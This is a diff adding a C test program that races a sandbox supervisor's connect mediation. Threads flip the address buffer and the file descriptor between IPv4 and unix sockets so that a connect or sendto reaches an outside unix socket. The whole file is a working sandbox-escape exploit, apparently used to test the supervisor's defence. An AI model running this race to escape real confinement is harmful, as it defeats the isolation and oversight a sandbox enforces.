@@ -1,0 +1,89 @@
+/*
+ * The race a hostile program runs against a supervisor that looks at a connect and then lets it continue:
+ * one thread calls connect(N, buf) over and over, a second flips buf between an IPv4 address (which the
+ * supervisor would let through unasked when connects are not mediated) and a unix socket path outside, and a
+ * third puts an IPv4 socket and a fresh unix socket at fd N by turns (dup2). Any connect that reaches the
+ * unix socket is an escape; the listener outside counts them.
+ *
+ *   ipc_race UNIX_PATH SECONDS      prints "attempts N connected M" (M: connects that returned 0 on a unix fd)
+ *   ipc_race --send UNIX_PATH SECONDS    the same with sendto of a datagram instead of connect
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <time.h>
+#include <unistd.h>
+
+static union {
+	struct sockaddr sa;
+	struct sockaddr_in in;
+	struct sockaddr_un un;
+} buf;
+static struct sockaddr_in in4;
+static struct sockaddr_un un;
+static atomic_int stop;
+static int N = 100;
+static int send_mode;
+
+static void *flip_addr(void *arg) {
+	(void)arg;
+	while (!atomic_load(&stop)) {
+		memcpy(&buf, &in4, sizeof in4);
+		memcpy(&buf, &un, sizeof un);
+	}
+	return NULL;
+}
+
+static void *flip_fd(void *arg) {
+	(void)arg;
+	int inet = socket(AF_INET, send_mode ? SOCK_DGRAM : SOCK_STREAM, 0);
+	while (!atomic_load(&stop)) {
+		int u = socket(AF_UNIX, send_mode ? SOCK_DGRAM : SOCK_STREAM, 0);
+		dup2(inet, N);
+		dup2(u, N);
+		close(u);
+	}
+	return NULL;
+}
+
+int main(int argc, char **argv) {
+	int a = 1;
+	if (argc > 1 && strcmp(argv[1], "--send") == 0) {
+		send_mode = 1;
+		a++;
+	}
+	if (argc - a != 2) {
+		fprintf(stderr, "usage: ipc_race [--send] UNIX_PATH SECONDS\n");
+		return 2;
+	}
+	un.sun_family = AF_UNIX;
+	strncpy(un.sun_path, argv[a], sizeof un.sun_path - 1);
+	in4.sin_family = AF_INET;
+	in4.sin_port = htons(9); /* discard: nothing listens */
+	in4.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	int secs = atoi(argv[a + 1]);
+	int s = socket(AF_INET, send_mode ? SOCK_DGRAM : SOCK_STREAM, 0);
+	dup2(s, N);
+	pthread_t t1, t2;
+	pthread_create(&t1, NULL, flip_addr, NULL);
+	pthread_create(&t2, NULL, flip_fd, NULL);
+	time_t end = time(NULL) + secs;
+	long attempts = 0, connected = 0;
+	while (time(NULL) < end) {
+		int r = send_mode ? (int)sendto(N, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL, &buf.sa, sizeof un) : connect(N, &buf.sa, sizeof un);
+		attempts++;
+		if (r >= 0) connected++;
+	}
+	atomic_store(&stop, 1);
+	pthread_join(t1, NULL);
+	pthread_join(t2, NULL);
+	printf("attempts %ld connected %ld\n", attempts, connected);
+	return 0;
+}
